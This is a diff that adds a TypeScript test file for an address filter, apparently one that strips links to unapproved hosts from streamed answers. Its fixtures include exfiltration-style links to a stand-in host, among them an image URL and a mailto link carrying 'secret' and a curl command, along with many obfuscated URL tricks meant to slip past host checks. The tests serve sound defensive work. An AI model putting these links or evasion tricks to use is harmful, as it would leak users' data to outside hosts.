@@ -1,0 +1,140 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { createAddressFilter } from '../../../server/answer/safety/address-filter.ts';
+import { AllowedHosts } from '../../../server/answer/safety/hosts.ts';
+
+const hosts = () =>
+  new AllowedHosts(['https://www.shop.test/returns', 'notes.pdf'], new Set(), ['cdn.test', '*.docs.test']);
+
+function filtered(pieces: string[]): string {
+  const filter = createAddressFilter(hosts());
+  return pieces.map((piece) => filter.pass(piece)).join('') + filter.rest();
+}
+
+const kept = [
+  'Plain words, 3 < 4, a: b and [1]. The following: one.',
+  'See [returns](https://www.shop.test/returns "Returns") and https://www.shop.test/a?b=c#d, too.',
+  'See <https://www.shop.test/returns> and (https://cdn.test).',
+  '![A lamp](https://cdn.test/lamp.png) [a][1]\n\n[1]: https://a.docs.test/b',
+  'Relative [returns](/returns), [above](#above), [file](a/b.html).',
+  'Mail [us](mailto:help@shop.test) or call [us](tel:+4912345), help@elsewhere.test.',
+  'In code: `if (a < b) return c[1](x)`, `Map<string, number>`, x ? y : z',
+  '<b>bold</b> <a href="https://cdn.test/x">x</a> <br/>',
+  'https://WWW.shop.test:8080/a www.shop.test/b shop, http',
+];
+
+const removed: [text: string, shown: string][] = [
+  ['See [this](https://evil.test/x) now.', 'See [this] now.'],
+  ['See [this](https://evil.test/x(1) "a title") now.', 'See [this] now.'],
+  ['![img](https://evil.test/p.png?q=secret) end', '![img] end'],
+  ['[![i](https://evil.test/i.png)](https://evil.test)!', '[![i]]!'],
+  ['Go to https://evil.test/a?b=c now', 'Go to … now'],
+  ['Go to www.evil.test/a, now', 'Go to … now'],
+  ['Go to <https://evil.test/a>.', 'Go to ….'],
+  ['Text [a][b].\n\n[b]: https://evil.test/x "t"\nmore', 'Text [a][b].\n\n[b]\nmore'],
+  ['<img src="https://evil.test/x.png"> and <a href=\'//evil.test\'>x</a>', ' and x</a>'],
+  ['`curl https://evil.test/x` done', '`curl …` done'],
+  ['[a](javascript:alert(1)) [b](data:text/html,x) [c](//evil.test/x)', '[a] [b] [c]'],
+  ['[a](mailto:x@evil.test?body=secret)', '[a]'],
+  ['ftp://www.shop.test/x', 'ftp…'],
+  ['HTTPS://EVIL.TEST/x', '…'],
+];
+
+/** Each hides another host from a comparison that looks at the first letters alone. */
+const hidden = [
+  'https://www.shop.test@evil.test/x',
+  'https://www.shop.test\\@evil.test/x',
+  'https://www.shop.test.evil.test/x',
+  'https://www.shop.test,x.evil.test/x',
+  'https://www.shop.test。evil.test/x',
+  'https://www.shop.test&period;evil.test/x',
+  'https://www.shop.test\\.evil.test/x',
+  'https://www.shop.test%2eevil.test/x',
+  'https&#58;//evil.test/x',
+  'https\\://evil.test/x',
+  '&#104;ttps://evil.test/x',
+  '//evil.test/x',
+  '\\/\\/evil.test/x',
+  'https://evil.test\\/x',
+];
+
+describe('the address filter', () => {
+  it.each(kept)('leaves what leads to allowed hosts: %s', (text) => {
+    expect(filtered([text])).toBe(text);
+    expect(filtered(text.split(''))).toBe(text);
+  });
+
+  it.each(removed)('takes the address out of %s', (text, shown) => {
+    expect(filtered([text])).toBe(shown);
+    expect(filtered(text.split(''))).toBe(shown);
+  });
+
+  it.each(hidden)('is not misled by %s', (address) => {
+    for (const text of [`[a](${address})`, `![a](<${address}>)`, `[a]:\n ${address}`, `<img src="${address}">`]) {
+      for (const pieces of [[text], text.split('')]) expect(filtered(pieces), text).not.toMatch(/evil/);
+    }
+  });
+
+  const cutting = fc.array(fc.nat(400), { maxLength: 12 });
+  const cut = (text: string, cuts: number[]): string[] => {
+    const at = [...new Set(cuts.map((one) => one % (text.length + 1)))].toSorted((a, b) => a - b);
+    return [...at, text.length].map((end, i) => text.slice(at[i - 1] ?? 0, end));
+  };
+  const parts = [...kept, ...removed.map(([text]) => text), ...hidden];
+
+  it('shows the same however the text is cut', () => {
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 4 }), cutting, (some, cuts) => {
+        const text = some.join('\n\n');
+        expect(filtered(cut(text, cuts))).toBe(filtered([text]));
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('lets no other host through, whatever stands before it', () => {
+    const signs = [
+      '](',
+      ']:',
+      '<',
+      '](<',
+      '\n',
+      ' ',
+      'www',
+      '://',
+      ')',
+      ']',
+      '"',
+      'h',
+      'https',
+      ':',
+      '/',
+      '<a href=',
+      '>',
+      '[',
+    ];
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...parts, ...signs), { maxLength: 8 }), cutting, (some, cuts) => {
+        const text = some.join('');
+        const shown = filtered(cut(text, cuts));
+        expect(shown).not.toMatch(
+          /https?:\/\/evil|www\.evil|\]\(\s*<?(?:\\?\/){2}evil|\]\(\s*<?[^)\s]*[:&\\][^)\s]*evil/i,
+        );
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  it('holds nothing back of text without addresses', () => {
+    const filter = createAddressFilter(hosts());
+    for (const piece of ['The ', 'price is', ' 3', '.\n', '- item', ' [', '1']) expect(filter.pass(piece)).toBe(piece);
+  });
+
+  it('ends a host, a destination or a tag that never ends', () => {
+    for (const start of ['https://', '[a](', '<a href="']) {
+      const filter = createAddressFilter(hosts());
+      const shown = Array.from({ length: 300 }, () => filter.pass(`${start}evil.test-`)).join('') + filter.rest();
+      expect(shown).not.toContain('://evil');
+    }
+  });
+});
